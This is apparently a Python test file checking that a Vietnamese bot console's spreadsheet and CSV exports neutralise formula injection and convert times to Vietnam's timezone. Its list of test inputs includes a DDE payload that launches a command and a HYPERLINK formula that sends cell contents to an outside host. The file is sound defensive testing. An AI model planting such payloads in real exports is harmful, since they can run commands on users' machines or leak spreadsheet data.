"""What somebody wrote stays text in a downloaded sheet."""

from __future__ import annotations

from datetime import UTC, datetime
from io import BytesIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.console.spreadsheet import Sheet, neutral, table, workbook

EVIL = [
    "=1+1",
    "+84912345678",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x.vn?"&A1,"bấm")',
    " =1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
]


def cells(data: bytes) -> list[list[Any]]:
    page = load_workbook(BytesIO(data)).worksheets[0]
    return [list(row) for row in page.iter_rows()]


@pytest.mark.parametrize("text", EVIL)
def test_no_text_becomes_a_formula(text: str):
    data = workbook([Sheet("Một", [text], [[text, 1]])])
    for row in cells(data):
        for cell in row:
            assert cell.data_type != "f"
            assert not str(cell.value).lstrip().startswith(("=", "+", "-", "@"))


@given(st.text(alphabet="=+-@\t\r\n\x00\ufeff a1＝"))
def test_whatever_its_signs(text: str):
    written = str(neutral(text))
    assert not written.lstrip("\ufeff\u200b \u00a0\t\r\n").startswith(("=", "+", "-", "@", "＝"))


def test_usual_text_and_numbers_stay_as_they_are():
    data = workbook([Sheet("Một", ["Chủ đề", "Số"], [["ly hôn", 12], ["đất đai", -3]])])
    values = [[cell.value for cell in row] for row in cells(data)]
    assert values == [["Chủ đề", "Số"], ["ly hôn", 12], ["đất đai", -3]]


def test_times_are_those_of_vietnam():
    shown = neutral(datetime(2026, 11, 22, 18, 30, tzinfo=UTC))
    assert isinstance(shown, datetime)
    assert shown.isoformat() == "2026-11-23T01:30:00"


def test_a_table_for_excel_keeps_accents_and_neutralises():
    data = table(["Câu hỏi"], [["=1+1"], ["ly hôn, thuận tình"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines() == ["Câu hỏi", "'=1+1", '"ly hôn, thuận tình"']
